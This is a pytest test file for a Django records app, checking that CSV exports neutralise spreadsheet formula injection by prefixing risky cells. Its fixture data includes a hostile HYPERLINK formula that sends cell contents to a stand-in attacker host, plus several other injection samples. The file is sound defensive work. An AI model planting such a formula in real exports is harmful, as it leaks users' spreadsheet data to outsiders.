import csv
import io

import pytest
from django.db import connection
from django.urls import reverse

from records import holds, import_templates
from records.csv_safe import csv_cell, csv_cell_original, csv_cell_sql
from records.models import Record
from records.roles import Role
from tests.factories import DepartmentFactory, UserFactory, make_record

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
CELLS = [
    (FORMULA, "'" + FORMULA),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'quoted", "''quoted"),
    ("Toll detail = printouts", "Toll detail = printouts"),
    ("", ""),
    ("CPNI-2026-000123", "CPNI-2026-000123"),
]


@pytest.mark.parametrize("value,written", CELLS)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe_and_nothing_is_lost(value, written):
    assert csv_cell(value) == written
    assert csv_cell_original(written) == value


def test_numbers_and_nothing_are_written_as_they_are():
    assert csv_cell(-5) == -5 and csv_cell(None) == ""


@pytest.mark.postgres
@pytest.mark.django_db
def test_postgresql_writes_the_same_cells_as_python():
    values = [value for value, _ in CELLS]
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {csv_cell_sql('value')} FROM unnest(%s::text[]) WITH ORDINALITY AS cell(value, position) "
            "ORDER BY position",
            [values],
        )
        assert [row[0] for row in cursor.fetchall()] == [csv_cell(value) for value in values]


@pytest.mark.django_db
def test_the_hold_report_neutralises_every_cell(client, auditor, records_manager):
    department = DepartmentFactory(code="ops", name="-Ops")
    custodian = UserFactory(username="@evil", first_name="", last_name="", role=Role.EMPLOYEE, department=department)
    record = make_record(custodian=custodian, title=FORMULA)
    hold = holds.hold_place(actor=records_manager, matter="+1+1", reason="R", scope="t",
                            records=Record.objects.filter(pk=record.pk))
    client.force_login(auditor)
    body = b"".join(client.get(reverse("hold-report", args=[hold.pk])).streaming_content).decode()
    header, row = list(csv.reader(io.StringIO(body)))[0:2]
    cells = dict(zip(header, row))
    assert cells["matter"] == "'+1+1" and cells["title"] == "'" + FORMULA
    assert cells["custodian"] == "'@evil" and cells["department"] == "'-Ops"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_import_template_is_written_the_same_way(monkeypatch):
    monkeypatch.setattr(import_templates, "EXAMPLE_ROW", ("=1+1", *import_templates.EXAMPLE_ROW[1:]))
    assert list(csv.reader(io.StringIO(import_templates.template_csv())))[1][0] == "'=1+1"
